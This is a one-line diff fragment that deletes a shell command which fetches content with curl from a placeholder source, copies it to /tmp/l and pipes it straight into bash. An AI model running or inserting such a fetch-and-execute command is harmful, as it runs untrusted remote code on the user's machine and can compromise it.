@@ -1,1 +1,0 @@
-curl -s x | tee /tmp/l | bash
